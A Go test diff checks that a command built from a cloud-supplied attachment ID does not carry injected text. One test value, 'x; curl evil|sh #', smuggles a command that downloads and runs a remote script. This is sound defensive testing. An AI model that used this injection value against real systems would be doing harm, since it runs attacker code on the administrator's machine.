@@ -226,3 +226,15 @@ func TestAttachAndDetachWhereCinderHidesAttachments(t *testing.T) {
 		})
 	}
 }
+
+// An administrator runs the command, and the cloud chooses the ID.
+func TestTheCommandForAnAttachmentHasNoWordOfTheCloud(t *testing.T) {
+	for id, want := range map[string]string{
+		"00000000-0000-4000-8000-00000000000a": "delete 00000000-0000-4000-8000-00000000000a",
+		"x; curl evil|sh #":                    "delete ATTACHMENT",
+	} {
+		if got := deleteCommand(volume.Attachment{ID: id}); !strings.HasSuffix(got, want) {
+			t.Errorf("want it to end with %q, got %q", want, got)
+		}
+	}
+}
